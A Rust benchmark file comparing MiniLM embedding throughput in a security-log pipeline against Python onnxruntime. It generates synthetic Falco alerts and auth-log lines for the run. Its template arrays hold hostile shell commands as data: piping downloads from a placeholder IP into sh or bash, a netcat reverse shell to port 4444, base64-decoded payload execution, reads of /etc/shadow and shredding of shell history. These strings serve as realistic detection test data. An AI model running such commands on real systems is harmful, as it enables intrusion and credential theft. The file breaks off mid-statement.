//! Embedding benchmark (issue 4): MiniLM through palisade-embeddings vs the same ONNX
//! files in Python onnxruntime, in the same run.
//!
//! Builds ~2,000 realistic embedding texts (deterministic): the real Falco alerts of
//! tests/fixtures/falco and the auth-log lines of tests/fixtures/logs as templates, with
//! randomised users, IPs, hosts, paths, commands, pods and container ids, each decoded by
//! the real decoders (`palisade_core::decode::decode`) and turned into the text the
//! vectors projection embeds (`palisade_embeddings::text::embedding_text` of
//! `palisade_consumers::vectors::view`). The texts go to a temporary file so that the
//! Python baseline (scripts/model/bench_python.py, run with the model venv's python)
//! embeds exactly the same texts.
//!
//! For fp32 and int8 and batches of 1, 32 and 256: embeddings/s of
//! `Embedder::embed_batch` (tokenisation included: sorted by token length, runs of
//! `sub_batch`, default 16), and of Python onnxruntime with the same files, threads and texts,
//! both as a plain Python user writes it (the whole batch padded to its longest, one
//! run) and with the same length-sorted runs. Each configuration is warmed up on its
//! first batches, then whole passes over the texts (the first 300 for batch 1) are timed
//! until 10 s or 3 passes, whichever comes first (a pass of 2,000 texts at batch 32 or
//! 256 takes 11 to 38 s on 2 cores, so those are one pass; the whole run takes about 5
//! minutes). Tokenisation is timed alone as well. The vectors of the batch-256 pass
//! give the cosine of int8 against fp32 over the corpus, and of Rust against Python.
//!
//! Needs the converted model (`scripts/stack.sh model`; `eval "$(scripts/stack.sh env)"`
//! sets PALISADE_MODEL_DIR and ORT_DYLIB_PATH), then `cargo bench --bench embed`.
//! Knobs: BENCH_TEXTS (2000), BENCH_BATCH1_TEXTS (300), BENCH_MIN_SECS (10),
//! BENCH_MIN_PASSES (3), BENCH_THREADS (2), PALISADE_EMBED_SUB_BATCH (16), PALISADE_EMBED_SPIN,
//! PALISADE_PYTHON (default /var/lib/palisade/opt/model-venv/bin/python),
//! BENCH_PYTHON_ARGS (extra arguments for the Python script, e.g. `--no-spin` to turn
//! its intra-op spinning off, for comparing with `PALISADE_EMBED_SPIN=0`), BENCH_EXTRA=1 (also Rust batch
//! 256 in one run of 256, the sub-batching off), BENCH_TEXTS_OUT=FILE (keep a copy of
//! the texts; with BENCH_TEXTS_ONLY=1 only write them, for running the Python script
//! alone).
//!
//! `PALISADE_EMBED_CUDA=1` runs both sides on ONNX Runtime's CUDA execution provider
//! (ORT_DYLIB_PATH and PALISADE_PYTHON pointing at onnxruntime-gpu); the run stops if
//! either side cannot register it rather than time the CPU in its place.
//!
//! Every configuration also reports the CPU that other processes used meanwhile (the box
//! is shared): a figure taken while they used a core is not this code's speed.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;
use std::process::Command;
use std::time::Instant;

use chrono::{TimeZone, Utc};
use palisade_core::model::Decoded;
use palisade_embeddings::{cosine, Embedder, EmbedderConfig, ModelVariant, DIMENSIONS};
use serde_json::{json, Value};

mod support;

use support::{falco_alerts, fixture, Rng};

const USERS: [&str; 12] = [
    "root", "admin", "ubuntu", "deploy", "postgres", "www-data", "git", "test", "oracle",
    "jenkins", "ansible", "backup",
];
const BATCHES: [usize; 3] = [1, 32, 256];

/// Files below /etc an editor or a dropper writes: (folder, file).
const ETC_FILES: [(&str, &str); 14] = [
    ("falco", "falco.yaml"),
    ("docker", "daemon.json"),
    ("ssh", "sshd_config"),
    ("sudoers.d", "90-cloud-init-users"),
    ("cron.d", "backup"),
    ("pam.d", "sshd"),
    ("kubernetes", "admin.conf"),
    ("nginx", "nginx.conf"),
    ("systemd/system", "kworker.service"),
    ("profile.d", "proxy.sh"),
    ("security", "limits.conf"),
    ("apt/sources.list.d", "mirror.list"),
    ("ld.so.conf.d", "libc.conf"),
    ("postgresql/16/main", "pg_hba.conf"),
];
const ETC_TOP: [&str; 6] = [
    "passwd",
    "shadow",
    "sudoers",
    "hosts",
    "crontab",
    "ld.so.preload",
];
const EDITORS: [&str; 4] = ["vi", "vim", "nano", "sed -i s/^#//"];
const BIN_DIRS: [&str; 4] = ["bin", "usr/bin", "usr/local/bin", "sbin"];
const BINARIES: [&str; 10] = [
    "should_not_be_here",
    "hack",
    "kworkerd",
    "xmrig",
    "socat",
    "busybox",
    "dbus-daemon-helper",
    "python3.11",
    "update-notifier",
    ".sshd",
];
const DROPPERS: [&str; 5] = [
    "touch {p}",
    "cp /tmp/.x {p}",
    "curl -so {p} http://{ip}/b",
    "wget -qO {p} http://{ip}:8080/b",
    "install -m 755 /tmp/b {p}",
];
const ROOT_FILES: [&str; 8] = [
    "test",
    "my-rpcpipefsgene.te",
    ".ssh/authorized_keys",
    ".bashrc",
    ".kube/config",
    "backup.tar.gz",
    ".aws/credentials",
    "notes.txt",
];
const ROOT_WRITERS: [&str; 5] = [
    "touch {p}",
    "vi {p}",
    "cp /tmp/x {p}",
    "tee {p}",
    "tar czf {p} /etc",
];
const HISTORY_TOOLS: [&str; 4] = ["bash", "rm -f {p}", "shred -u {p}", "mv {p} /dev/null"];
const SHELL_COMMANDS: [&str; 16] = [
    "ls",
    "uptime",
    "id",
    "whoami",
    "cat /etc/passwd",
    "env",
    "ps aux",
    "clear; (bash || ash || sh)",
    "curl -s http://{ip}/x.sh | sh",
    "wget -q -O- http://{ip}:8080/payload | bash",
    "uname -a",
    "netstat -tulpn",
    "find / -perm -4000 -type f",
    "base64 -d /tmp/.cache/p | sh",
    "nc -e /bin/sh {ip} 4444",
    "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
];
const CONTAINER_NAMES: [&str; 8] = [
    "kind_lumiere",
    "mystifying_beaver",
    "distracted_lalande",
    "web-7d4b9",
    "redis-cache",
    "payments-api",
    "jenkins-agent",
    "grafana",
];
const IMAGES: [&str; 6] = [
    "fedora:latest",
    "nginx:1.27",
    "alpine:3.20",
    "ubuntu:24.04",
    "redis:7",
    "registry.internal/app:2.3.1",
];
const NAMESPACES: [&str; 6] = [
    "default",
    "hello-app",
    "kube-system",
    "payments",
    "monitoring",
    "ci",
];
const K8S_USERS: [&str; 6] = [
    "kubernetes-admin",
    "yacht",
    "csi-cinder-controller",
    "system:serviceaccount:ci:runner",
    "dev-alice",
    "system:node:ip-192-168-34-135.ec2.internal",
];
const PODS: [&str; 6] = ["nginx", "kubecon", "api", "worker", "postgres", "frontend"];
const EXEC_COMMANDS: [&str; 6] = ["cat", "sh", "bash", "ls", "env", "/bin/sh -c id"];
const HOST_PREFIXES: [&str; 4] = ["localhost", "bastion", "k8s-worker", "proxmox-node"];
const SUDO_COMMANDS: [&str; 8] = [
    "/bin/ls",
    "/bin/cat /var/log/secure",
    "/bin/cat /etc/shadow",
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/apt-get install -y netcat",
    "/bin/bash",
    "/usr/bin/tail -n 100 /var/log/auth.log",
    "/usr/bin/docker ps",
];

/// Builds the corpus: a mix of Falco alerts and auth-log lines, decoded by the real
/// decoders, as the vectors projection's embedding texts.
struct Corpus {
    rng: Rng,
    falco: Vec<Value>,
    auth: Vec<String>,
}

impl Corpus {
    fn new() -> Self {
        let falco = falco_alerts();
        let auth = fixture("logs/beats_system_auth_test.log")
            .lines()
            .map(str::to_owned)
            .collect();
        Corpus {
            rng: Rng(0x5EED_0E3B_ED00_0004),
            falco,
            auth,
        }
    }

    fn ip(&mut self) -> String {
        self.rng.ip()
    }

    /// One of `items`.
    fn word(&mut self, items: &[&'static str]) -> &'static str {
        self.rng.pick::<&'static str>(items)
    }

    fn host(&mut self) -> String {
        let prefix = *self.rng.pick(&HOST_PREFIXES);
        format!("{prefix}-{:03}", self.rng.below(500))
    }

    fn texts(&mut self, n: usize) -> Vec<String> {
        (0..n)
            .map(|_| {
                let event = if self.rng.below(100) < 60 {
                    self.falco_event()
                } else {
                    self.auth_event()
                };
                palisade_embeddings::text::embedding_text(&palisade_consumers::vectors::view(
                    &event,
                ))
            })
            .collect()
    }

    fn one_event(subject: &str, payload: &str) -> palisade_core::model::Event {
        match palisade_core::decode::decode(subject, payload.as_bytes()) {
            Ok(Decoded::Events(mut events)) if events.len() == 1 => events.pop().unwrap(),
            other => panic!("{subject}: {payload} decoded to {other:?}"),
        }
    }

    /// A Falco alert from a fixture template, its salient fields randomised per rule.
    fn falco_event(&mut self) -> palisade_core::model::Event {
        let mut alert = self.rng.pick(&self.falco).clone();
        let user = (*self.rng.pick(&USERS)).to_owned();
        let ip = self.ip();
        let cid = format!("{:012x}", self.rng.next() & 0xffff_ffff_ffff);
        let rule = alert["rule"].as_str().unwrap_or_default().to_owned();
        let f = alert["output_fields"]
            .as_object_mut()
            .expect("output_fields");
        let fill =
            |template: &str, p: &str, ip: &str| template.replace("{p}", p).replace("{ip}", ip);
        if f.contains_key("user.name") {
            f.insert("user.name".into(), user.clone().into());
        }
        match rule.as_str() {
            "Launch Privileged Container" | "Launch Sensitive Mount Container" => {
                let old_cid = f["container.id"].as_str().unwrap_or_default().to_owned();
                let old_name = f["container.name"].as_str().unwrap_or_default().to_owned();
                let name = *self.rng.pick(&CONTAINER_NAMES);
                let image = *self.rng.pick(&IMAGES);
                f.insert("container.id".into(), cid.clone().into());
                f.insert("container.name".into(), name.into());
                f.insert("proc.cmdline".into(), format!("container:{cid}").into());
                let output = alert["output"]
                    .as_str()
                    .unwrap_or_default()
                    .replace(&old_cid, &cid)
                    .replace(&old_name, name)
                    .replace("fedora:latest", image)
                    .replace("user=root", &format!("user={user}"));
                alert["output"] = output.into();
            }
            "Write below binary dir" => {
                let path = format!("/{}/{}", self.rng.pick(&BIN_DIRS), self.rng.pick(&BINARIES));
                let cmd = fill(self.word(&DROPPERS), &path, &ip);
                f.insert("fd.name".into(), path.into());
                set_command(f, &cmd);
            }
            "Write below etc" => {
                let path = if self.rng.below(4) == 0 {
                    format!("/etc/{}", self.rng.pick(&ETC_TOP))
                } else {
                    let (dir, file) = *self.rng.pick(&ETC_FILES);
                    format!("/etc/{dir}/{file}")
                };
                let editor = *self.rng.pick(&EDITORS);
                let written = if editor.starts_with("vi") {
                    let (dir, file) = path.rsplit_once('/').unwrap();
                    format!("{dir}/.{file}.swp")
                } else {
                    path.clone()
                };
                f.insert("fd.name".into(), written.into());
                f.insert(
                    "proc.pcmdline".into(),
                    format!("sudo {editor} {path}").into(),
                );
                set_command(f, &format!("{editor} {path}"));
            }
            "Write below root" => {
                let path = format!("/root/{}", self.rng.pick(&ROOT_FILES));
                let cmd = fill(self.word(&ROOT_WRITERS), &path, &ip);
                f.insert("fd.name".into(), path.into());
                set_command(f, &cmd);
            }
            "Delete or rename shell history" => {
                let home = if user == "root" {
                    "/root".to_owned()
                } else {
                    format!("/home/{user}")
                };
                let shell = if self.rng.below(3) == 0 {
                    "zsh"
                } else {
                    "bash"
                };
                let path = format!("{home}/.{shell}_history-{}.tmp", self.rng.below(60000));
                for key in ["evt.arg.name", "evt.arg.oldpath", "fd.name"] {
                    if f.get(key).is_some_and(Value::is_string) {
                        f.insert(key.into(), path.clone().into());
                    }
                }
                let cmd = fill(self.word(&HISTORY_TOOLS), &path, &ip);
                f.insert("proc.cmdline".into(), cmd.into());
            }
            "Terminal shell in container" => {
                let shell = f["proc.name"].as_str().unwrap_or("sh").to_owned();
                let command = fill(self.word(&SHELL_COMMANDS), "", &ip);
                let cmdline = if self.rng.below(5) == 0 {
                    shell
                } else {
                    format!("{shell} -c {command}")
                };
                f.insert("proc.cmdline".into(), cmdline.into());
            }
            "Contact K8S API Server From Container" => {
                let port = 30_000 + self.rng.below(30_000);
                let api = *self
                    .rng
                    .pick(&["10.96.0.1:443", "10.100.0.1:443", "10.0.0.1:6443"]);
                f.insert("fd.name".into(), format!("{ip}:{port}->{api}").into());
            }
            _ if f.contains_key("ka.verb") || f.contains_key("ka.target.resource") => {
                let pod = format!(
                    "{}-{:x}-{:05x}",
                    self.rng.pick(&PODS),
                    self.rng.below(0xff_ffff),
                    self.rng.below(0xf_ffff)
                );
                if f.contains_key("ka.target.name") {
                    f.insert("ka.target.name".into(), pod.into());
                }
                if f.contains_key("ka.target.namespace") {
                    f.insert(
                        "ka.target.namespace".into(),
                        (*self.rng.pick(&NAMESPACES)).into(),
                    );
                }
                if f.contains_key("ka.uri.param[command]") {
                    f.insert(
                        "ka.uri.param[command]".into(),
                        (*self.rng.pick(&EXEC_COMMANDS)).into(),
                    );
                }
                f.insert("ka.user.name".into(), (*self.rng.pick(&K8S_USERS)).into());
            }
            _ => {}
        }
        alert["hostname"] = self.host().into();
        let t = Utc.with_ymd_and_hms(2026, 11, 1, 0, 0, 0).unwrap()
            - chrono::Duration::seconds(self.rng.below(30 * 86_400) as i64);
        alert["time"] = t.to_rfc3339_opts(chrono::SecondsFormat::Nanos, true).into();
        Self::one_event("security.falco.alerts", &alert.to_string())
    }

    /// An auth-log line from a fixture template, shipped raw (syslog header and all) in
    /// a log envelope.
    fn auth_event(&mut self) -> palisade_core::model::Event {
        let template = self.rng.pick(&self.auth).clone();
        let user = *self.rng.pick(&USERS);
        let ip = self.ip();
        let port = (1024 + self.rng.below(64_000)).to_string();
        let pid = (1000 + self.rng.below(60_000)).to_string();
        // Header: "Mon DD HH:MM:SS host prog[pid]: …" → a new time, host and pid.
        let mut words = template.splitn(5, ' ').collect::<Vec<_>>();
        if words.len() == 5 && words[1].is_empty() {
            words = template.splitn(6, ' ').filter(|w| !w.is_empty()).collect();
        }
        let (tag, rest) = words[4].split_once(": ").unwrap_or(("sshd:", words[4]));
        let program = tag.split('[').next().unwrap_or("sshd");
        let tag = if tag.contains('[') {
            format!("{program}[{pid}]")
        } else {
            program.to_owned()
        };
        let mut message = rest.to_owned();
        for old in ["10.0.2.2", "192.168.33.1", "216.160.83.57", "2.125.160.217"] {
            message = message.replace(old, &ip);
        }
        for old in ["vagrant", "tsg", "test"] {
            message = message.replace(old, user);
        }
        message = message
            .replace("for root from", &format!("for {user} from"))
            .replace(
                "apache",
                self.word(&["apache", "nginx", "mysql", "redis", "backdoor"]),
            );
        for old in ["63673", "58803", "29160"] {
            message = message.replace(old, &port);
        }
        if let Some((before, _)) = message.split_once("COMMAND=") {
            message = format!("{before}COMMAND={}", self.rng.pick(&SUDO_COMMANDS));
        }
        if message.contains("RSA ") {
            let fp: Vec<String> = (0..16)
                .map(|_| format!("{:02x}", self.rng.below(256)))
                .collect();
            let (before, _) = message.split_once("RSA ").unwrap();
            message = format!("{before}RSA {}", fp.join(":"));
        }
        let day = 1 + self.rng.below(28);
        let line = format!(
            "Nov {day:>2} {:02}:{:02}:{:02} {} {tag}: {message}",
            self.rng.below(24),
            self.rng.below(60),
            self.rng.below(60),
            self.host()
        );
        let envelope = json!({"v": 1, "ts": "2026-11-01T00:00:00Z", "host": "bench",
                              "agent_id": "bench", "source": "auth",
                              "lines": [{"message": line}]});
        Self::one_event("logs.auth", &envelope.to_string())
    }
}

/// Sets `proc.cmdline` and `proc.name` (the program of the command line).
fn set_command(fields: &mut serde_json::Map<String, Value>, cmdline: &str) {
    let program = cmdline
        .split_whitespace()
        .next()
        .and_then(|p| p.rsplit('/').next())
        .unwrap_or_default();
    fields.insert("proc.cmdline".into(), cmdline.into());
    if fields.contains_key("proc.name") {
        fields.insert("proc.name".into(), program.into());
    }
}

/// How long to time each configuration.
#[derive(Clone, Copy)]
struct Timing {
    /// Stop once this many seconds have been timed…
    min_secs: f64,
    /// …or this many passes, whichever comes first (at least one pass).
    min_passes: usize,
}

/// One configuration's figures.
#[derive(Debug, Clone, Default)]
struct Figures {
    texts: usize,
    passes: usize,
    seconds: f64,
    per_s: f64,
    pass_min: f64,
    pass_max: f64,
    /// CPU used by other processes while this configuration was timed, in cores.
    others: f64,
}

impl Figures {
    fn from_json(v: &Value) -> Figures {
        let f = |k: &str| v[k].as_f64().unwrap_or(f64::NAN);
        Figures {
            texts: v["texts"].as_u64().unwrap_or(0) as usize,
            passes: v["passes"].as_u64().unwrap_or(0) as usize,
            seconds: f("seconds"),
            per_s: f("per_s"),
            pass_min: f("pass_min_per_s"),
            pass_max: f("pass_max_per_s"),
            others: f("others_cores"),
        }
    }

    fn cell(&self) -> String {
        if self.passes == 0 {
            return "—".into();
        }
        format!(
            "**{:.0}** ({:.0}–{:.0})",
            self.per_s, self.pass_min, self.pass_max
        )
    }
}

/// Warm-up, then whole passes over `texts` in batches of `batch`. Returns the figures
/// and the vectors of the first timed pass.
fn time_config(
    embedder: &Embedder,
    texts: &[&str],
    batch: usize,
    timing: Timing,
) -> (Figures, Vec<Vec<f32>>) {
    let batches: Vec<&[&str]> = texts.chunks(batch).collect();
    for b in batches.iter().take((64 / batch).max(1)) {
        embedder.embed_batch(b).expect("warm-up");
    }
    let (mut elapsed, mut passes, mut rates, mut kept) = (0.0, 0, Vec::new(), Vec::new());
    let cpu = CpuShare::start();
    loop {
        let started = Instant::now();
        let mut vectors = Vec::with_capacity(texts.len());
        for b in &batches {
            vectors.extend(embedder.embed_batch(b).expect("embed"));
        }
        let took = started.elapsed().as_secs_f64();
        if passes == 0 {
            kept = vectors;
        }
        passes += 1;
        elapsed += took;
        rates.push(texts.len() as f64 / took);
        if elapsed >= timing.min_secs || passes >= timing.min_passes {
            break;
        }
    }
    let figures = Figures {
        texts: texts.len(),
        passes,
        seconds: elapsed,
        per_s: (passes * texts.len()) as f64 / elapsed,
        pass_min: rates.iter().copied().fold(f64::INFINITY, f64::min),
        pass_max: rates.iter().copied().fold(0.0, f64::max),
        others: cpu.others_cores(),
    };
    (figures, kept)
}

/// How busy the machine was with other processes: CPU time of the whole machine
/// (`/proc/stat`: user, nice, system, irq, softirq and steal) less this process's own
/// (`/proc/self/stat`), over the wall time, in cores. The box is shared; a figure
/// measured while others used a core is not this code's speed.
struct CpuShare {
    started: Instant,
    busy: f64,
    own: f64,
}

/// Linux reports CPU times in USER_HZ ticks, 100 per second on x86-64.
const TICKS_PER_S: f64 = 100.0;

impl CpuShare {
    fn start() -> CpuShare {
        CpuShare {
            started: Instant::now(),
            busy: machine_busy_s(),
            own: own_cpu_s(),
        }
    }

    fn others_cores(&self) -> f64 {
        let wall = self.started.elapsed().as_secs_f64();
        let others = (machine_busy_s() - self.busy) - (own_cpu_s() - self.own);
        (others / wall).max(0.0)
    }
}

fn machine_busy_s() -> f64 {
    let stat = std::fs::read_to_string("/proc/stat").unwrap_or_default();
    let fields: Vec<f64> = stat
        .lines()
        .find_map(|l| l.strip_prefix("cpu "))
        .unwrap_or_default()
        .split_whitespace()
        .filter_map(|v| v.parse().ok())
        .collect();
    // user nice system idle iowait irq softirq steal …
    [0, 1, 2, 5, 6, 7]
        .iter()
        .filter_map(|&i| fields.get(i))
        .sum::<f64>()
        / TICKS_PER_S
}

/// This process's CPU time, its threads and waited-for children included.
fn own_cpu_s() -> f64 {
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_default();
    // After the command name in parentheses: state is field 3; utime, stime, cutime
    // and cstime are fields 14 to 17.
    let rest = stat.rsplit_once(')').map_or("", |(_, r)| r);
    rest.split_whitespace()
        .skip(11)
        .take(4)
        .filter_map(|v| v.parse::<f64>().ok())
        .sum::<f64>()
        / TICKS_PER_S
}

/// Tokenisation alone: `Embedder::tokenize` over the texts in batches of `batch`.
fn time_tokenize(embedder: &Embedder, texts: &[&str], batch: usize) -> (f64, usize) {
    let batches: Vec<&[&str]> = texts.chunks(batch).collect();
    let mut tokens = 0;
    for b in &batches {
        tokens += embedder.tokenize(b).expect("tokenize").total_tokens();
    }
    let (mut elapsed, mut passes) = (0.0, 0);
    while elapsed < 1.0 || passes < 3 {
        let started = Instant::now();
        for b in &batches {
            std::hint::black_box(embedder.tokenize(b).expect("tokenize"));
        }
        elapsed += started.elapsed().as_secs_f64();
        passes += 1;
    }
    ((passes * texts.len()) as f64 / elapsed, tokens)
}

/// Mean, minimum and the index of the minimum of the row-wise cosines.
fn agreement(a: &[Vec<f32>], b: &[Vec<f32>]) -> (f64, f64, usize) {
    assert_eq!(a.len(), b.len());
    let cosines: Vec<f64> = a.iter().zip(b).map(|(x, y)| cosine(x, y)).collect();
    let (worst, min) = cosines
        .iter()
        .copied()
        .enumerate()
        .min_by(|x, y| x.1.total_cmp(&y.1))
        .unwrap_or((0, f64::NAN));
    (
        cosines.iter().sum::<f64>() / cosines.len() as f64,
        min,
        worst,
    )
}

fn read_vectors(path: &Path, n: usize) -> Vec<Vec<f32>> {
    let bytes = std::fs::read(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    assert_eq!(bytes.len(), n * DIMENSIONS * 4, "{}", path.display());
    bytes
        .chunks_exact(DIMENSIONS * 4)
        .map(|row| {
            row.chunks_exact(4)
                .map(|b| f32::from_le_bytes([b[0], b[1], b[2], b[3]]))
                .collect()
        })
        .collect()
}

/// The Python baseline's figures for one variant.
struct PythonRun {
    result: Value,
    vectors: Vec<Vec<f32>>,
}

#[allow(clippy::too_many_arguments)]
fn run_python(
    python: &str,
    texts_path: &Path,
    dir: &Path,
    config: &EmbedderConfig,
    n: usize,
    batch1_texts: usize,
    timing: Timing,
    extra: &[String],
) -> PythonRun {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/model/bench_python.py");
    let out = dir.join(format!("python-{}.json", config.variant));
    let vectors = dir.join(format!("python-{}.f32", config.variant));
    let batches: Vec<String> = BATCHES.iter().map(ToString::to_string).collect();
    let status = Command::new(python)
        .arg(&script)
        .arg("--texts")
        .arg(texts_path)
        .arg("--model-dir")
        .arg(&config.model_dir)
        .args(["--variant", config.variant.as_str()])
        .args(["--threads", &config.threads.to_string()])
        .args(["--sub-batch", &config.sub_batch.to_string()])
        .args(["--batches", &batches.join(",")])
        .args(["--batch1-texts", &batch1_texts.to_string()])
        .args(["--min-secs", &timing.min_secs.to_string()])
        .args(["--min-passes", &timing.min_passes.to_string()])
        .arg("--out")
        .arg(&out)
        .arg("--vectors-out")
        .arg(&vectors)
        .args(extra)
        .status()
        .unwrap_or_else(|e| panic!("{python} {}: {e} (set PALISADE_PYTHON)", script.display()));
    assert!(status.success(), "the Python baseline failed: {status}");
    let result: Value = serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap();
    PythonRun {
        result,
        vectors: read_vectors(&vectors, n),
    }
}

/// The figures of `mode` (`whole` or `sorted`) at `batch` in a Python result.
fn python_figures(run: &PythonRun, mode: &str, batch: usize) -> Figures {
    run.result[mode]
        .as_array()
        .and_then(|rows| {
            rows.iter()
                .find(|r| r["batch"].as_u64() == Some(batch as u64))
        })
        .map(Figures::from_json)
        .unwrap_or_default()
}

/// The CPU the figures were taken on, and with `gpu` the GPU as well.
fn machine(gpu: bool) -> String {
    let cpuinfo = std::fs::read_to_string("/proc/cpuinfo").unwrap_or_default();
    let model = cpuinfo
        .lines()
        .find_map(|l| l.strip_prefix("model name"))
        .and_then(|l| l.split_once(':'))
        .map_or("unknown CPU".to_owned(), |(_, m)| m.trim().to_owned());
    let flags = cpuinfo
        .lines()
        .find_map(|l| l.strip_prefix("flags"))
        .unwrap_or_default();
    let simd: Vec<&str> = ["avx2", "avx512f", "avx512_vnni", "avx_vnni"]
        .into_iter()
        .filter(|f| flags.split_whitespace().any(|x| x == *f))
        .collect();
    let cores = std::thread::available_parallelism().map_or(0, |n| n.get());
    let mem_kib: u64 = std::fs::read_to_string("/proc/meminfo")
        .unwrap_or_default()
        .lines()
        .find_map(|l| l.strip_prefix("MemTotal:"))
        .and_then(|l| l.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    let gpu = if gpu {
        // The GPU as the driver names it (nvidia-smi comes with the driver).
        Command::new("nvidia-smi")
            .args([
                "--query-gpu=name,memory.total,driver_version",
                "--format=csv,noheader",
            ])
            .output()
            .ok()
            .filter(|o| o.status.success())
            .map_or_else(
                || "; GPU: nvidia-smi did not answer".to_owned(),
                |o| format!("; GPU: {}", String::from_utf8_lossy(&o.stdout).trim()),
            )
    } else {
        String::new()
    };
    format!(
        "{model}, {cores} cores ({}), {:.1} GiB RAM{gpu}",
        if simd.is_empty() {
            "no AVX2".to_owned()
        } else {
            simd.join(", ")
        },
        mem_kib as f64 / 1024.0 / 1024.0
    )
}

fn loadavg() -> String {
    std::fs::read_to_string("/proc/loadavg")
        .unwrap_or_default()
        .split_whitespace()
        .take(3)
        .collect::<Vec<_>>()
        .join(" ")
}

fn main() {
    // The embedder says on stderr why a CUDA execution provider was not registered.
    let _ = tracing_subscriber::fmt()
        .with_writer(std::io::stderr)
        .with_env_filter(tracing_subscriber::EnvFilter::new("warn"))
        .try_init();
    let started = Instant::now();
    let n: usize = support::env_or("BENCH_TEXTS", 2000);
    let batch1_texts: usize = support::env_or("BENCH_BATCH1_TEXTS", 300).min(n);
    let timing = Timing {
        min_secs: support::env_or("BENCH_MIN_SECS", 10.0),
        min_passes: support::env_or("BENCH_MIN_PASSES", 3),
    };
    let python = std::env::var("PALISADE_PYTHON")
        .ok()
        .filter(|p| !p.trim().is_empty())
        .unwrap_or_else(|| "/var/lib/palisade/opt/model-venv/bin/python".to_owned());
    let mut python_extra: Vec<String> = std::env::var("BENCH_PYTHON_ARGS")
        .unwrap_or_default()
        .split_whitespace()
        .map(str::to_owned)
        .collect();
    let extra = std::env::var("BENCH_EXTRA").is_ok_and(|v| v == "1");
    let base = EmbedderConfig::from_env().expect("embedder configuration");
    let base = EmbedderConfig {
        threads: support::env_or("BENCH_THREADS", 2),
        ..base
    };
    // PALISADE_EMBED_CUDA=1: both sides on the GPU (onnxruntime-gpu), or no figures.
    if base.cuda && !python_extra.iter().any(|a| a == "--cuda") {
        python_extra.push("--cuda".to_owned());
    }
    let mut providers = Vec::new();
    let machine = machine(base.cuda);
    let load_before = loadavg();

    // The corpus, written for the Python side.
    let owned = Corpus::new().texts(n);
    let texts: Vec<&str> = owned.iter().map(String::as_str).collect();
    let dir = std::env::temp_dir().join(format!("palisade-bench-embed-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let texts_path = dir.join("texts.json");
    std::fs::write(&texts_path, serde_json::to_vec(&texts).unwrap()).unwrap();
    if let Some(keep) = std::env::var_os("BENCH_TEXTS_OUT").filter(|p| !p.is_empty()) {
        std::fs::copy(&texts_path, &keep).unwrap();
        if std::env::var("BENCH_TEXTS_ONLY").is_ok_and(|v| v == "1") {
            eprintln!("{n} texts written to {}", Path::new(&keep).display());
            let _ = std::fs::remove_dir_all(&dir);
            return;
        }
    }
    let distinct = {
        let mut sorted = texts.clone();
        sorted.sort_unstable();
        sorted.dedup();
        sorted.len()
    };
    let bytes: usize = texts.iter().map(|t| t.len()).sum();
    eprintln!(
        "{n} texts ({distinct} distinct), written to {}",
        texts_path.display()
    );
    for t in texts.iter().take(12) {
        eprintln!("  {t}");
    }

    let mut rust: Vec<(ModelVariant, Vec<Figures>, Vec<Vec<f32>>)> = Vec::new();
    let mut one_run: Vec<(ModelVariant, Figures)> = Vec::new();
    let mut pythons: Vec<(ModelVariant, PythonRun)> = Vec::new();
    let mut tokenize = None;
    for variant in [ModelVariant::Fp32, ModelVariant::Int8] {
        let config = EmbedderConfig {
            variant,
            ..base.clone()
        };
        let load_started = Instant::now();
        let embedder = Embedder::load(&config).expect("load the embedder");
        assert!(
            !config.cuda || embedder.execution_provider() == "cuda",
            "PALISADE_EMBED_CUDA=1 but the CUDA execution provider could not be registered \
             (the warning above says why): not timing the CPU in its place"
        );
        providers.push((variant, embedder.execution_provider()));
        eprintln!(
            "{}: loaded in {:.2} s (threads {}, runs of {}, onnxruntime {})",
            embedder.model_id(),
            load_started.elapsed().as_secs_f64(),
            config.threads,
            config.sub_batch,
            config
                .ort_dylib
                .as_deref()
                .map_or("libonnxruntime.so".into(), |p| p.display().to_string())
        );
        if tokenize.is_none() {
            tokenize = Some(time_tokenize(&embedder, &texts, 256));
        }
        let mut figures = Vec::new();
        let mut kept = Vec::new();
        for batch in BATCHES {
            let subset = if batch == 1 {
                &texts[..batch1_texts]
            } else {
                &texts[..]
            };
            let (f, vectors) = time_config(&embedder, subset, batch, timing);
            eprintln!(
                "  rust {variant} batch {batch}: {:.1} emb/s ({} passes, {:.1} s, others {:.2} cores)",
                f.per_s, f.passes, f.seconds, f.others
            );
            if batch == *BATCHES.last().unwrap() {
                kept = vectors;
            }
            figures.push(f);
        }
        if extra {
            let whole = Embedder::load(&EmbedderConfig {
                sub_batch: 256,
                ..config.clone()
            })
            .unwrap();
            let (f, _) = time_config(&whole, &texts, 256, timing);
            eprintln!(
                "  rust {variant} batch 256 in one run: {:.1} emb/s",
                f.per_s
            );
            one_run.push((variant, f));
        }
        drop(embedder);
        rust.push((variant, figures, kept));
        let py = run_python(
            &python,
            &texts_path,
            &dir,
            &config,
            n,
            batch1_texts,
            timing,
            &python_extra,
        );
        pythons.push((variant, py));
    }
    let load_after = loadavg();
    let _ = std::fs::remove_dir_all(&dir);

    // Report.
    let (tok_per_s, tokens) = tokenize.unwrap();
    let py0 = &pythons[0].1.result;
    let py_tokens = py0["total_tokens"].as_u64().unwrap_or(0) as usize;
    let sub_batch = base.sub_batch;
    println!(
        "\n## Embeddings: MiniLM in Rust vs Python onnxruntime ({n} texts, {} s)",
        started.elapsed().as_secs()
    );
    println!("- command: `cargo bench --bench embed` (BENCH_TEXTS={n}, BENCH_BATCH1_TEXTS={batch1_texts}, BENCH_MIN_SECS={}, BENCH_MIN_PASSES={}{})",
        timing.min_secs, timing.min_passes,
        if python_extra.is_empty() { String::new() } else { format!(", BENCH_PYTHON_ARGS=\"{}\"", python_extra.join(" ")) });
    println!(
        "- data: {n} texts ({distinct} distinct), {bytes} bytes, {tokens} tokens ({:.1} per text, [CLS]/[SEP] included); batch 1 on the first {batch1_texts}",
        tokens as f64 / n as f64
    );
    println!("- machine: {machine}; load average before {load_before}, after {load_after}");
    println!(
